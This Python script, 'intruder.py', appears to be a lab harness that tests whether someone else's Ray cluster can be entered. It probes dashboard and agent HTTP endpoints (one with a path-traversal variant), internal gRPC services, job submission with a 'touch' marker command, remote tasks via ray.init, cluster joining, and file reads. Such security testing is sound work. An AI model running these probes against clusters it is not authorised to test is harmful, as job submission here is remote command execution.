"""Tries every way into somebody's Ray, and says how far it got. Runs on a machine of the lab, by a Ray's Python there.

    intruder.py PLAN            a JSON file; prints {"ways": {WAY: OUTCOME}, "files": {PATH: OUTCOME}}

The plan: `mark` (what programs that get in leave in the home of whoever they run as), `ways` (`http`, `grpc`,
`objects`, `client`, `driver`, `join`), `token` (null for none), `address` (of the head), `ports`, `dashboard`
(host:port), `attempts` (at what Ray's client does: it gives up early on a busy machine), `paths` to read.
An outcome is "in", or says why not.
"""

from __future__ import annotations

import http.client
import json
import os
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from typing import Any

IN = "in"
SECONDS = 100
"""How long a way may take: Ray's own programs go on trying for half a minute, longer on a busy machine."""

DASHBOARD_PATHS = (
    "/api/version", "/api/v0/nodes", "/nodes?view=summary", "/api/jobs/", "/api/v0/tasks", "/api/cluster_status",
)  # fmt: skip

# One call to each service, which changes nothing there.
CALLS = {
    "gcs": "/ray.rpc.NodeInfoGcsService/GetAllNodeInfo",
    "client": "/ray.rpc.RayletDriver/ClusterInfo",
    "node_manager": "/ray.rpc.NodeManagerService/GetNodeStats",
    "dashboard_agent_grpc": "/ray.rpc.ReporterService/GetTraceback",
}

TASK = """\
import pathlib, sys
import ray
ray.init(address=sys.argv[1], log_to_driver=False)

@ray.remote(num_cpus=0)
def leave(name):
    (pathlib.Path.home() / name).touch()
    return True

print("in" if ray.get(leave.remote(sys.argv[2])) else "nothing came back")
"""


def ask(where: str, method: str, path: str, token: str | None, body: dict[str, Any] | None = None) -> str:
    """Asks over HTTP."""
    connection = http.client.HTTPConnection(where, timeout=20)
    headers = {"User-Agent": "intruder", "Content-Type": "application/json"}
    if token is not None:
        headers["Authorization"] = f"Bearer {token}"
    try:
        connection.putrequest(method, path, skip_accept_encoding=True)
        text = b"" if body is None else json.dumps(body).encode()
        for name, value in {**headers, "Content-Length": str(len(text))}.items():
            connection.putheader(name, value)
        connection.endheaders(text)
        status = connection.getresponse().status
    except OSError as error:
        return type(error).__name__
    finally:
        connection.close()
    return IN if status < http.client.BAD_REQUEST else str(status)


def call(where: str, method: str, token: str | None) -> str:
    """Calls over gRPC, with an empty message."""
    import grpc  # type: ignore[import-untyped]  # Ray's

    metadata = [] if token is None else [("authorization", f"Bearer {token}")]
    with grpc.insecure_channel(where) as channel:
        try:
            channel.unary_unary(method)(b"", timeout=20, metadata=metadata)
        except grpc.RpcError as error:
            return str(error.code().name)
    return IN


def run(environment: dict[str, str], attempts: int, *command: str) -> str:
    """Runs a program of Ray's; its last words say why it did not get in."""
    outcome = "no attempt"
    for _ in range(attempts):
        outcome = run_once(environment, *command)
        if outcome == IN:
            break
    return outcome


def run_once(environment: dict[str, str], *command: str) -> str:
    """Runs a program once."""
    try:
        done = subprocess.run(
            command, env=environment, stdin=subprocess.DEVNULL, capture_output=True, text=True, timeout=SECONDS,
            check=False,
        )  # fmt: skip
    except subprocess.TimeoutExpired:
        return "no end"
    words = (done.stdout + done.stderr).strip().splitlines()
    if done.returncode == 0:
        return IN if IN in words else "unexpected: " + " | ".join(words[-3:])
    return next((word for word in reversed(words) if "Error" in word), f"exit status {done.returncode}")[:300]


def ways(plan: dict[str, Any], folder: str) -> Iterator[tuple[str, partial[str]]]:
    """Yields each way with what tries it."""
    token, address, ports = plan["token"], plan["address"], plan["ports"]
    if "http" in plan["ways"]:
        for path in (*DASHBOARD_PATHS, "/static/../api/jobs/"):
            yield f"dashboard GET {path}", partial(ask, plan["dashboard"], "GET", path, token)
        job = {"entrypoint": f"touch ~/{plan['mark']}-job"}
        yield "dashboard POST /api/jobs/", partial(ask, plan["dashboard"], "POST", "/api/jobs/", token, job)
    if "grpc" in plan["ways"]:
        agent, path = f"{address}:{ports['dashboard_agent']}", "/api/job_agent/jobs/"
        job = {"entrypoint": f"touch ~/{plan['mark']}-agent"}
        yield f"agent POST {path}", partial(ask, agent, "POST", path, token, job)
        environments = f"{address}:{ports['runtime_env_agent']}"
        yield "environments", partial(ask, environments, "POST", "/get_or_create_runtime_env", token, {})
        for port, method in CALLS.items():
            yield port, partial(call, f"{address}:{ports[port]}", method, token)
    if "objects" in plan["ways"]:  # whoever gets in with an empty message may do harm
        where = f"{address}:{ports['object_manager']}"
        yield "object_manager", partial(call, where, "/ray.rpc.ObjectManagerService/Pull", token)
    python = sys.executable
    known = {"RAY_AUTH_MODE": "token", "RAY_AUTH_TOKEN": token} if token is not None else {}
    environment = {**os.environ, **known, "RAY_TMPDIR": folder}
    for name, where in (("client", f"ray://{address}:{ports['client']}"), ("driver", f"{address}:{ports['gcs']}")):
        if name in plan["ways"]:
            yield (
                f"ray.init {name}",
                partial(run, environment, plan["attempts"], python, "-c", TASK, where, f"{plan['mark']}-{name}"),
            )
    if "join" in plan["ways"]:
        start = (str(Path(python).parent / "ray"), "start", "--block", "--disable-usage-stats", "--num-cpus=1")
        yield "ray start", partial(run, environment, 1, *start, f"--address={address}:{ports['gcs']}")


def read(path: str) -> str:
    """Reads a file, or lists a folder."""
    try:
        found = os.listdir(path) if os.path.isdir(path) else Path(path).read_bytes()  # noqa: PTH112, PTH208 - Path says False for what it may not see
    except OSError as error:
        return type(error).__name__
    return IN if found else "empty"


def main() -> None:
    """Tries all at the same time."""
    plan = json.loads(Path(sys.argv[1]).read_text(encoding="utf-8"))
    folder = tempfile.mkdtemp(prefix="i")
    try:
        with ThreadPoolExecutor(32) as pool:
            tried = {name: pool.submit(attempt) for name, attempt in ways(plan, folder)}
            found = {name: future.result() for name, future in tried.items()}
    finally:
        shutil.rmtree(folder, ignore_errors=True)
    print(json.dumps({"ways": found, "files": {path: read(path) for path in plan["paths"]}}))


if __name__ == "__main__":
    main()
